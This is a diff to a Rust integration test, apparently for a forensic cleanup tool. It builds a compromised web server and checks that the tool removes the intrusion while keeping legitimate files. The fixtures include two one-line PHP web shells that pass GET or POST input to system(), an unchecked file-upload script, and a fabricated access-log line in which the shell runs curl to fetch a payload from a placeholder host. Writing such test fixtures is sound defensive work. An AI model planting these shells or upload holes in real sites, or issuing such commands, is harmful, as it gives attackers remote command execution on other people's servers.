@@ -233,10 +233,21 @@ fn web_server_parent_survives_and_the_drop_and_its_persistence_go() {
     let www = s.home.path().join("www");
     let index = write(&www.join("index.php"), "<?php echo date('Y'); ?>\n");
     let shell = write(&www.join("up.php"), "<?php system($_GET['c']); ?>\n");
+    // A second web shell, called by a plain form POST (nothing in the URL).
+    let shell2 = write(
+        &www.join("uploads/.t.php"),
+        "<?php if(isset($_POST['c'])){system($_POST['c']);} ?>\n",
+    );
+    let upload = write(
+        &www.join("upload.php"),
+        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']); ?>\n",
+    );
     let log = write(
         &s.home.path().join("log/access.log"),
         &format!(
             "192.0.2.50 - - [30/Nov/2026:10:00:00 +0000] \"GET /index.php HTTP/1.1\" 200 12 \"-\" \"Mozilla/5.0\"\n\
+             192.0.2.66 - - [30/Nov/2026:09:59:00 +0000] \"POST /upload.php HTTP/1.1\" 200 6 \"-\" \"curl/8.0\"\n\
+             192.0.2.66 - - [30/Nov/2026:09:59:30 +0000] \"POST /uploads/.t.php HTTP/1.1\" 200 0 \"-\" \"curl/8.0\"\n\
              192.0.2.66 - - [30/Nov/2026:10:00:05 +0000] \"GET /up.php?c=curl%20-so%20{p}%20http://{ind}/b HTTP/1.1\" 200 3 \"-\" \"curl/8.0\"\n",
             p = payload.display()
         ),
@@ -285,9 +296,9 @@ fn web_server_parent_survives_and_the_drop_and_its_persistence_go() {
     // The attack: the web shell runs the dropped payload.
     http_get(&s.ns, &format!("/up.php?c=bash%20{pl}"));
     let loop_pid = wait_for(&format!("bash {pl}"));
-    let innocent = [&notes, &index, &good_unit, &passwd, &keys, &ticker];
+    let innocent = [&notes, &index, &upload, &good_unit, &passwd, &keys, &ticker];
     let snap = snapshot(&innocent);
-    let all = snapshot(&[&payload, &shell, &cron_only, &cron_mixed, &unit]);
+    let all = snapshot(&[&payload, &shell, &shell2, &cron_only, &cron_mixed, &unit]);
 
     let case = s.home.path().join("case");
     let common = [
